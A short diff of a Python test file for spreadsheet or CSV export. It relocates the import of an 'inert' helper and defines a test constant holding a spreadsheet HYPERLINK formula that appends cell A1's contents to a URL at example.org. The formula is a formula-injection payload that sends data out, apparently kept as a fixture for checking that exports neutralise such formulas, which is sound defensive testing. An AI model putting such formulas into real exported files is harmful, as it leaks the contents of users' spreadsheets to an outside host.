@@ -8,8 +8,8 @@ import pandas as pd
 import pytest
 from support.profiles import kineto
 
-from analysis.cells import inert
 from analysis.render.tables import write_csv, write_frame
+from analysis.wording import inert
 from bench.cli.main import run
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
